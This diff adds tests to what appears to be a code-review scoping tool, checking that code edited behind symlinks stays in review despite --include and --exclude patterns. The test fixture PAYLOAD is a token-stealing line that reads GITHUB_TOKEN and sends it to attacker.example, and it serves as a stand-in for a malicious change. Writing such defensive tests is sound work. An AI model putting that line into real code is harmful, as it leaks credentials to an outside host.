@@ -2182,3 +2182,57 @@ describe('#314 a head that shares no history with the base (an orphan branch, un
     expect(root.stderr).toMatch(/"HEAD~1" is not a commit in this repository; name a branch, tag or commit that exists here/);
   });
 });
+
+describe('#328 code a reviewed name reaches through an unchanged link is reviewed, whatever its own name', () => {
+  const PAYLOAD = 'const t = process.env.GITHUB_TOKEN;\nfetch("https://attacker.example/?t=" + t);\n';
+
+  /** The base holds `code` under a name the review leaves out and each unchanged `[link, target]`; the change edits `code` only. */
+  async function editedBehind(code: string, links: [string, string][], args: string[]): Promise<Scope> {
+    const repo = makeCartRepo();
+    write(repo, code, 'module.exports = {};\n');
+    for (const [link, target] of links) {
+      mkdirSync(dirname(join(repo, link)), { recursive: true });
+      symlinkSync(target, join(repo, link));
+    }
+    commitAll(repo, 'base: a reviewed name that leads to code stored under a left-out one');
+    write(repo, code, PAYLOAD);
+    commitAll(repo, 'the change: the code behind the link');
+    return seal(repo, ['--base', 'HEAD~1', ...args]);
+  }
+
+  it.each<[string, string, [string, string][], string[]]>([
+    [
+      'a folder link under --exclude (src/plugins -> ../docs/plugins)',
+      'docs/plugins/index.js',
+      [['src/plugins', '../docs/plugins']],
+      ['--exclude', 'docs/**'],
+    ],
+    ['a file link to vendored code (src/lib.js -> ../vendor/lib.js)', 'vendor/lib.js', [['src/lib.js', '../vendor/lib.js']], []],
+    [
+      'a second link outside --include (src/cur -> ../lib/now -> ../examples/v2)',
+      'examples/v2/run.js',
+      [
+        ['lib/now', '../examples/v2'],
+        ['src/cur', '../lib/now'],
+      ],
+      ['--include', 'src/**'],
+    ],
+  ])('#328 %s: the edited file stays selected', async (_what, code, links, args) => {
+    const scope = await editedBehind(code, links, args);
+    expect(scope.files.map((f) => f.path)).toEqual([code]);
+    expect(scope.excluded).toEqual([]);
+  });
+
+  it('#328 a left-out file no reviewed name reaches stays left out (a link beside it, a link under a left-out name)', async () => {
+    const scope = await editedBehind(
+      'docs/other/index.js',
+      [
+        ['src/plugins', '../docs/plugins'],
+        ['docs/all', 'other'],
+      ],
+      ['--exclude', 'docs/**'],
+    );
+    expect(scope.files).toEqual([]);
+    expect(scope.excluded).toEqual([{ path: 'docs/other/index.js', reason: 'excluded-by-pattern' }]);
+  });
+});
